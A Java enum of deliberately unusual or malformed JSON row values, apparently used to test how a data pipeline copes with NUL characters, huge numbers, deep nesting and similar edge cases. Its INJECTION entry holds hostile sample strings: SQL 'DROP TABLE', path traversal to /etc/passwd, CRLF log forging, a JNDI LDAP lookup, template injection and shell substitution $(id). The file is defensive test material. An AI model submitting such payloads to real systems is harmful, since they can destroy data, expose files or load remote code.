package dev.leat.playground;

import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.util.RawValue;
import java.util.function.Consumer;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** What may be unusual, or wrong, in a row. Most of it stands in a field {@code odd}. */
public enum Oddity {
  /** The character of number 0 in a text. */
  NUL(odd("\"a\\u0000b\"")),
  /** Half of a character that takes two. */
  LONE_SURROGATE(odd("\"a\\ud83d\"")),
  /** A field that stands twice. */
  DUPLICATE_KEY(odd("1,\"odd\":2")),
  /** A number that JSON does not have. */
  NOT_A_NUMBER(odd("NaN")),
  /** A number beyond every binary one. */
  HUGE_EXPONENT(odd("1e400")),
  /** A whole number beyond 2 to the 63rd. */
  LARGE_INTEGER(odd("9223372036854775808")),
  /** A decimal of forty digits. */
  LONG_DECIMAL(odd("0.1234567890123456789012345678901234567890")),
  /** A zero with a sign. */
  NEGATIVE_ZERO(odd("-0")),
  /** A whole number that is spelled as a fraction. */
  POINT_ZERO(odd("1.0")),
  /** A hundred thousand lists, one in the other. */
  DEEP_NESTING(odd("[".repeat(100_000) + "]".repeat(100_000))),
  /** A text of 50 MB. */
  LONG_TEXT(row -> row.putRawValue("odd", new RawValue('"' + "x".repeat(50_000_000) + '"'))),
  /** An object of a million keys. */
  MANY_KEYS(row -> row.putRawValue("odd", new RawValue(object(1_000_000)))),
  /** Five thousand fields more. */
  MANY_FIELDS(row -> IntStream.range(0, 5_000).forEach(field -> row.put("field_" + field, field))),
  /** A number where text was. */
  OTHER_TYPE(row -> row.put("job", 7)),
  /** A field less. */
  MISSING_FIELD(row -> row.remove("job")),
  /** A field whose name differs from another's only in case. */
  CASE_ONLY(row -> row.put("Name", "differs")),
  /** Fields named like words of SQL. */
  RESERVED_WORDS(row -> row.put("select", 1).put("table", 2).put("order", 3).put("user", 4)),
  /** A field whose name is an emoji. */
  EMOJI_NAME(row -> row.put("\uD83D\uDE80", "to the moon")),
  /** Names and values that try to be more than that. */
  INJECTION(
      row ->
          row.put("\"; DROP TABLE user; --", "'); DROP TABLE user; --")
              .put("../../etc/passwd", "../../etc/passwd")
              .put("line\r\nbreak", "a\r\nINFO all is well")
              .put("n".repeat(300), "${jndi:ldap://a.invalid/x} {{7*7}} $(id)")
              .put("n\u0430me", "a homoglyph"));

  private final Consumer<ObjectNode> change;

  Oddity(Consumer<ObjectNode> change) {
    this.change = change;
  }

  void into(ObjectNode row) {
    change.accept(row);
  }

  private static Consumer<ObjectNode> odd(String json) {
    return row -> row.putRawValue("odd", new RawValue(json));
  }

  private static String object(int keys) {
    return IntStream.range(0, keys)
        .mapToObj(key -> "\"" + Integer.toString(key, 36) + "\":0")
        .collect(Collectors.joining(",", "{", "}"));
  }
}
